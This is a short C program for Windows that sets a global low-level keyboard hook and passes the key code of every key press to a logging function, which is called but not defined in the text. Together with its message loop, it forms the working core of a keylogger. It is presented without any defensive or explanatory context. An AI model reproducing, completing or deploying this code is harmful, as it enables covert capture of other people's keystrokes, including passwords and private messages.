#include <windows.h>
LRESULT CALLBACK hook(int code, WPARAM wp, LPARAM lp) {
    if (code == HC_ACTION && wp == WM_KEYDOWN)
        log_key(((KBDLLHOOKSTRUCT *)lp)->vkCode);
    return CallNextHookEx(NULL, code, wp, lp);
}
int main(void) {
    SetWindowsHookExA(WH_KEYBOARD_LL, hook, GetModuleHandleA(NULL), 0);
    MSG m;
    while (GetMessageA(&m, NULL, 0, 0)) DispatchMessageA(&m);
}
